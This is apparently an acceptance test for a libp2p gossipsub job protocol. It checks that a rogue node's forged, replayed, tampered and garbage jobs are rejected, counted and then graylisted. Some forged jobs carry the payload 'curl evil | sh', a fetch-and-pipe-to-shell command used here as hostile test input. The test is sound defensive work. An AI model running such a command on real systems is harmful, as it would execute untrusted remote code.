/**
 * Acceptance 3 (gossip half): a rogue node, whose key is in nobody's policy, publishes forged,
 * replayed and garbage jobs on a job topic. None reaches the executor, each is counted with its
 * reason, and the rogue's gossipsub score on the honest node falls below the graylist threshold.
 */
import { noise } from '@chainsafe/libp2p-noise'
import { yamux } from '@chainsafe/libp2p-yamux'
import { type GossipSub, gossipsub } from '@libp2p/gossipsub'
import { defaultPeerScoreThresholds } from '@libp2p/gossipsub/score'
import { identify } from '@libp2p/identify'
import type { PeerId } from '@libp2p/interface'
import { tcp } from '@libp2p/tcp'
import { createLibp2p, type Libp2p } from 'libp2p'
import { pEvent } from 'p-event'
import { afterEach, describe, expect, it } from 'vitest'
import {
  adHocJobId,
  createJob,
  createJobTopicValidator,
  createJobVerifier,
  generateSigner,
  type JobEnvelope,
  jobTopic,
  jobTopicsScoreParams,
  publicKeyHexFromPeerId,
  ReplayCache,
  signerKeyHex,
  TrustPolicy,
} from '../src/protocols/jobs/index.js'
import { createStore, type Store } from './jobs-helpers.js'

type Node = Libp2p<{ pubsub: GossipSub }>

const CAPABILITY = 'sal'
const TOPIC = jobTopic(CAPABILITY)
const encoder = new TextEncoder()
// Production keeps gossipsub's default thresholds (graylist -80: three rejected jobs). The test
// sets the graylist deeper so the six different attempts below are all validated and counted
// before the honest node stops listening to the rogue altogether.
const THRESHOLDS = { ...defaultPeerScoreThresholds, publishThreshold: -200, graylistThreshold: -400 }
const nodes: Node[] = []
const cleanups: (() => Promise<void>)[] = []

afterEach(async () => {
  await Promise.all(nodes.splice(0).map((node) => node.stop()))
  for (const cleanup of cleanups.splice(0)) await cleanup()
})

async function createNode(): Promise<Node> {
  const node = await createLibp2p({
    addresses: { listen: ['/ip4/127.0.0.1/tcp/0'] },
    transports: [tcp()],
    connectionEncrypters: [noise()],
    streamMuxers: [yamux()],
    services: {
      identify: identify(),
      pubsub: gossipsub({
        globalSignaturePolicy: 'StrictSign',
        allowPublishToZeroTopicPeers: true,
        emitSelf: false,
        // Every test node shares 127.0.0.1: IP colocation must not be what lowers a score.
        scoreParams: { topics: jobTopicsScoreParams([CAPABILITY]), IPColocationFactorWeight: 0 },
        scoreThresholds: THRESHOLDS,
      }),
    },
  })
  nodes.push(node)
  return node
}

/** Resolves once `predicate` holds, re-checking on each `event`; rejects after the deadline. */
async function until(
  target: EventTarget,
  event: string,
  predicate: () => boolean,
  ms = 10_000,
): Promise<void> {
  if (predicate()) return
  await pEvent(target, event, { filter: () => predicate(), signal: AbortSignal.timeout(ms) })
}

function subscribed(node: Node, peer: PeerId): () => boolean {
  return () => node.services.pubsub.getSubscribers(TOPIC).some((id) => id.equals(peer))
}

function scoreOf(node: Node, peer: PeerId): number {
  return (node.services.pubsub as unknown as { getScore(id: string): number }).getScore(peer.toString())
}

/** Honest node with a verifier that trusts only `client` for CAPABILITY. */
async function createHonestNode(clientKey: string): Promise<{
  node: Node
  verifier: ReturnType<typeof createJobVerifier>
  executed: JobEnvelope[]
  delivered: string[]
  executions: EventTarget
}> {
  const store: Store = await createStore()
  const replayCache = new ReplayCache({ datastore: store.datastore })
  await replayCache.start()
  cleanups.push(async () => {
    await replayCache.stop()
    await store.close()
  })
  const node = await createNode()
  const policy = TrustPolicy.parse(
    { keys: [{ key: clientKey, roles: ['client'], capabilities: [CAPABILITY] }] },
    { self: publicKeyHexFromPeerId(node.peerId) },
  )
  const verifier = createJobVerifier({ trust: policy, replayCache })
  node.services.pubsub.topicValidators.set(TOPIC, createJobTopicValidator(verifier))
  const executed: JobEnvelope[] = []
  const delivered: string[] = []
  const executions = new EventTarget()
  // The executor: every delivered job passes the accepting gate (verify records the nonce).
  node.services.pubsub.addEventListener('message', (event) => {
    if (event.detail.topic !== TOPIC || event.detail.type !== 'signed') return
    delivered.push(event.detail.from.toString())
    void verifier.verify(event.detail.data, { capability: CAPABILITY }).then((result) => {
      if (result.ok) executed.push(result.job)
      executions.dispatchEvent(new Event('executed'))
    })
  })
  node.services.pubsub.subscribe(TOPIC)
  return { node, verifier, executed, delivered, executions }
}

describe('job gossip with a rogue publisher', () => {
  it('rejects, counts and graylists the rogue; only the trusted job executes', async () => {
    const client = generateSigner()
    const honest = await createHonestNode(signerKeyHex(client))
    const publisher = await createNode()
    const rogue = await createNode()
    publisher.services.pubsub.subscribe(TOPIC)
    rogue.services.pubsub.subscribe(TOPIC)
    await publisher.dial(honest.node.getMultiaddrs())
    await rogue.dial(honest.node.getMultiaddrs())
    await until(honest.node.services.pubsub, 'subscription-change', subscribed(honest.node, rogue.peerId))
    await until(honest.node.services.pubsub, 'subscription-change', subscribed(honest.node, publisher.peerId))
    await until(publisher.services.pubsub, 'subscription-change', subscribed(publisher, honest.node.peerId))
    await until(rogue.services.pubsub, 'subscription-change', subscribed(rogue, honest.node.peerId))

    // A trusted client's job, announced by an honest peer, executes once.
    const job = createJob({ runner: CAPABILITY, payload: 'echo ok' }, client)
    const jobBytes = encoder.encode(JSON.stringify(job))
    await publisher.services.pubsub.publish(TOPIC, jobBytes)
    await until(honest.executions, 'executed', () => honest.executed.length === 1)
    expect(honest.executed.map((executed) => executed.id)).toEqual([job.id])

    // The rogue's attempts: its own key, a forgery in the client's name, a tampered copy, a
    // straight replay of the executed job, and garbage.
    const rogueKey = generateSigner()
    const attempts: [string, Uint8Array][] = [
      ['untrusted_key', encoder.encode(JSON.stringify(createJob({ runner: CAPABILITY }, rogueKey)))],
      [
        'bad_signature',
        encoder.encode(
          JSON.stringify({
            ...createJob({ runner: CAPABILITY, payload: 'curl evil | sh' }, rogueKey),
            id: adHocJobId(job.submitter),
            submitter: job.submitter,
            signatures: [{ key: job.submitter, sig: job.signatures[0]?.sig }],
          }),
        ),
      ],
      ['bad_signature', encoder.encode(JSON.stringify({ ...job, payload: 'curl evil | sh' }))],
      ['replayed', jobBytes],
      ['malformed', encoder.encode('{"runner":"sal","payload":"x"}')],
      ['malformed', Uint8Array.from([0xde, 0xad, 0xbe, 0xef])],
    ]
    const rejected: string[] = []
    honest.verifier.addEventListener('job:rejected', (event) => rejected.push(event.detail.reason))
    for (const [, data] of attempts) {
      const before = rejected.length
      await rogue.services.pubsub.publish(TOPIC, data)
      await until(honest.verifier, 'job:rejected', () => rejected.length > before)
    }

    expect(rejected.sort()).toEqual(attempts.map(([reason]) => reason).sort())
    expect(honest.verifier.stats().rejected).toMatchObject({
      untrusted_key: 1,
      bad_signature: 2,
      replayed: 1,
      malformed: 2,
    })
    expect(honest.executed.map((executed) => executed.id)).toEqual([job.id])
    expect(honest.delivered).not.toContain(rogue.peerId.toString())

    // The RPC path goes through the same gate: the rogue's payloads sent directly are refused too.
    for (const [reason, data] of attempts) {
      expect(await honest.verifier.verify(data, { capability: CAPABILITY })).toMatchObject({
        ok: false,
        reason,
      })
    }
    expect(honest.executed).toHaveLength(1)

    // gossipsub scored each rejection (P4). The rogue keeps forging; before long the honest node
    // graylists it (and from then on drops its messages unread), while the honest publisher is fine.
    const graylist = THRESHOLDS.graylistThreshold
    for (let i = 0; i < 12; i++) {
      await rogue.services.pubsub.publish(
        TOPIC,
        encoder.encode(JSON.stringify(createJob({ runner: CAPABILITY }, rogueKey))),
      )
    }
    await until(
      honest.node.services.pubsub,
      'gossipsub:heartbeat',
      () => scoreOf(honest.node, rogue.peerId) < graylist,
    )
    expect(scoreOf(honest.node, rogue.peerId)).toBeLessThan(graylist)
    expect(scoreOf(honest.node, publisher.peerId)).toBeGreaterThanOrEqual(0)
  })
})
